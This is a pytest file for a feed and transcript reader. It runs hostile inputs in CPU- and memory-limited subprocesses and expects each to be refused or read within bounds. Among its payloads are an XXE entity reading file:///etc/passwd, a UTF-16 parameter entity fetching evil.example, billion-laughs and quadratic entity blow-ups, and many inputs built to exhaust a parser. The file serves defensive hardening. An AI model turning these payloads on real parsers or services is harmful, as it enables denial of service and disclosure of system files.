"""Hostile documents, each read in a process of its own with limits of CPU time and memory.

A case ends with a named error or with what could be recovered; a reader that loops or swells is
killed by its limits, which fails the test. The limits are twice and more what is needed, and CPU
time is that of the process alone, so that a busy machine makes no difference.
"""

import resource
import subprocess
import sys

import pytest

CPU_SECONDS = 5
"""Of a whole process; starting Python and its libraries takes most of one on a slow machine."""
MEMORY = 200 * 1024 * 1024
"""Above what the process has after its imports."""

PREAMBLE = f"""
import resource
from earwitness.library.intake import NotReadable
from earwitness.library.reading import recognise
def limit():
    pages = int(open("/proc/self/statm").read().split()[0])
    most = pages * resource.getpagesize() + {MEMORY}
    resource.setrlimit(resource.RLIMIT_AS, (most, most))
def try_reading(data, name="feed.xml"):
    limit()
    begun = resource.getrusage(resource.RUSAGE_SELF).ru_utime
    try:
        read = recognise.read(data, name)
    except NotReadable as error:
        assert "\\n" not in str(error)
        print("refused:", error)
    else:
        print("read:", len(getattr(read, "episodes", ())), "episodes;", *getattr(read, "problems", ()))
"""
HEAD = (
    b"<rss xmlns:podcast='https://podcastindex.org/namespace/1.0'"
    b" xmlns:psc='http://podlove.org/simple-chapters'><channel><title>x</title>"
)

CASES = {
    "deep nesting": (
        f"try_reading({HEAD!r} + b'<a>' * 200_000 + b'</a>' * 200_000)",
        "refused: elements are nested deeper than 256 levels",
    ),
    "deep nesting in an item": (
        f"try_reading({HEAD!r} + b'<item>' + b'<a>' * 200_000)",
        "refused: elements are nested deeper than 256 levels",
    ),
    "items without end": (
        f"try_reading({HEAD!r} + b'<item><title>a</title></item>' * 300_000)",
        "read: 20000 episodes",
    ),
    "items in items": (f"try_reading({HEAD!r} + b'<item>' * 200)", "read: "),
    "attributes without end": (
        f"try_reading({HEAD!r} + b'<item><a ' + b' '.join(b'a%d=\"1\"' % i for i in range(20_000)) + b'/></item></channel></rss>')",
        "refused: line 1: an element has 20000 attributes",
    ),
    "a text of eleven million characters": (
        f"try_reading({HEAD!r} + b'<item><title>' + b'x' * 11_000_000 + b'</title></item></channel></rss>')",
        "refused: past a limit of the parser",
    ),
    "a description of nine million characters": (
        f"try_reading({HEAD!r} + b'<item><title>x</title><guid>1</guid><description>' + b'&lt;b>' * 1_500_000 + b'</description></item></channel></rss>')",
        "is cut after",
    ),
    "larger than is read": (
        "try_reading(b'<rss>' + b' ' * 21_000_000)",
        "refused: larger than 20 MB",
    ),
    "billion laughs": (
        "try_reading(b'<!DOCTYPE a [<!ENTITY a0 \"ha\">' + b''.join(b'<!ENTITY a%d \"%s\">' % (i + 1, b'&a%d;' % i * 10) for i in range(10)) + b']><rss>&a10;</rss>')",
        "refused: has a document type with declarations (DTD)",
    ),
    "quadratic blow-up": (
        "try_reading(b'<!DOCTYPE a [<!ENTITY a \"' + b'x' * 100_000 + b'\">]><rss>' + b'&a;' * 100_000 + b'</rss>')",
        "refused: has a document type with declarations (DTD)",
    ),
    "an external entity": (
        "try_reading(b'<!DOCTYPE a [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><rss>&a;</rss>')",
        "refused: has a document type with declarations (DTD)",
    ),
    "a parameter entity in UTF-16": (
        'try_reading(\'<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a [<!ENTITY % a SYSTEM "https://evil.example/">%a;]><rss/>\'.encode(\'utf-16\'))',
        "refused: has a document type with declarations (DTD)",
    ),
    "stray ampersands": (
        f"try_reading({HEAD!r} + b'<item><title>' + b'& &x ' * 1_000_000 + b'</title></item></channel></rss>')",
        "Problem",
    ),
    "unclosed tags": (
        f"try_reading({HEAD!r} + b'<item><title>a' * 100_000)",
        "refused: elements are nested deeper than 256 levels",
    ),
    "times in notes without end": (
        f"try_reading({HEAD!r} + b''.join(b'<item><guid>%d</guid><title>t</title><description>' % n + b' '.join(b'%d:%02d a' % divmod(s * 7919 %% 5000, 60) for s in range(200)) + b'</description></item>' for n in range(2_000)) + b'</channel></rss>')".replace(
            "%%", "%"
        ),
        "read: 2000 episodes",
    ),
    "chapters without end": (
        f"try_reading({HEAD!r} + b'<item><title>a</title><guid>1</guid><psc:chapters>' + b'<psc:chapter start=\"1:00\" title=\"a\"/>' * 200_000 + b'</psc:chapters></item></channel></rss>')",
        "refused: line 1: an element has 200000 elements",
    ),
    "an outline in an outline": (
        "try_reading(b'<opml><body>' + b'<outline text=\"a\">' * 200_000, 'a.opml')",
        "refused: nested too deep",
    ),
    "deep JSON": ("try_reading(b'[' * 1_000_000, 'a.json')", "refused: "),
    "cues without end": (
        "try_reading(b'WEBVTT\\n\\n' + b'00:01.000 --> 00:02.000\\na\\n\\n' * 500_000, 'a.vtt')",
        "refused: has more than 200000 cues",
    ),
    "arrows without end": (
        "try_reading(b'WEBVTT\\n\\n00:01.000 --> 00:02.000\\n' + b'-->' * 2_000_000, 'a.vtt')",
        "re",
    ),
    "voices without end": (
        "try_reading(b'WEBVTT\\n\\n00:01.000 --> 00:02.000\\n' + b'<v a' * 500_000, 'a.vtt')",
        "re",
    ),
    "brackets without end": (
        "try_reading(b'**A:** a\\n\\n**B:** b\\n\\n' + b'[' * 1_000_000 + b'](' * 100_000, 'a.md')",
        "re",
    ),
    "one line of asterisks": (
        "try_reading(b'**A:** a\\n\\n**B:** ' + b'*' * 2_000_000, 'a.md')",
        "re",
    ),
    "a number without end": (
        "try_reading(b'{\"segments\": [{\"start\": 1' + b'0' * 100_000 + b', \"text\": \"a\"}]}', 'a.json')",
        "re",
    ),
    "a page of brackets": ("try_reading(b'<html>' + b'<' * 1_000_000, 'a.html')", "re"),
    "cells without end": (
        "try_reading(b'Highlight,Title\\n\"' + b'a' * 1_000_000, 'a.csv')",
        "refused: not CSV",
    ),
}


@pytest.mark.parametrize("name", CASES)
def test_it_ends_with_a_named_error_or_what_could_be_recovered(name: str) -> None:
    program, said = CASES[name]
    ended = subprocess.run(
        [sys.executable, "-c", PREAMBLE + program],
        capture_output=True,
        text=True,
        check=False,
        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_CPU, (CPU_SECONDS, CPU_SECONDS)),
    )
    assert ended.returncode == 0, (ended.returncode, ended.stderr[-500:])
    assert said in ended.stdout, ended.stdout[:500]
